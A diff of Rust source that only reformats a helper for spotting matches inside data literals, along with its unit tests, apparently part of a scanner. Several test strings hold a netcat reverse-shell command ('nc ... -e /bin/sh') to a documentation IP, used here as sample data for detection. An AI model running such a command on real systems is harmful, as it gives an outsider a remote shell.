@@ -592,11 +592,7 @@ fn test_data_literal(line: &str, start: usize, end: usize) -> bool {
     }
     // Still inside the literal opened before the match, and it closes after it; or the whole line
     // is data (`"name": "sample",`) and the match runs across its literals.
-    open.is_some()
-        && opened_at < start
-        && b[end.min(b.len())..]
-            .iter()
-            .any(|&c| Some(c) == open)
+    open.is_some() && opened_at < start && b[end.min(b.len())..].iter().any(|&c| Some(c) == open)
         || data_line(line)
 }
 
@@ -1185,7 +1181,11 @@ mod tests {
         assert!(!super::test_data_literal(run, at, at + 20));
         let across = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
         let at = across.find("nc-exec").unwrap();
-        assert!(super::test_data_literal(across, at, across.find("-e ").unwrap() + 3));
+        assert!(super::test_data_literal(
+            across,
+            at,
+            across.find("-e ").unwrap() + 3
+        ));
         let call = r#"    run_sample("nc 192.0.2.1 4444 -e /bin/sh")"#;
         assert!(!super::data_line(call));
         let bare = "nc 192.0.2.1 4444 -e /bin/sh";
@@ -1208,13 +1208,19 @@ mod tests {
             [3, 5]
         );
         // Indentation that continues a paragraph (no blank line before) is prose.
-        assert_eq!(code_lines("Download it from\n    https://x.example/a.zip"), Vec::<usize>::new());
+        assert_eq!(
+            code_lines("Download it from\n    https://x.example/a.zip"),
+            Vec::<usize>::new()
+        );
         // A list item's own paragraph indented to its content column is prose; four more is code.
         assert_eq!(
             code_lines("1. Step one\n\n   more about step one\n\n       code in the item\n"),
             [5]
         );
-        assert_eq!(code_lines("- item\n\n    continued item text\n"), Vec::<usize>::new());
+        assert_eq!(
+            code_lines("- item\n\n    continued item text\n"),
+            Vec::<usize>::new()
+        );
         // A paragraph at the margin ends the list; a tab counts four columns.
         assert_eq!(code_lines("- item\n\nText.\n\n\tcode\n"), [5]);
     }
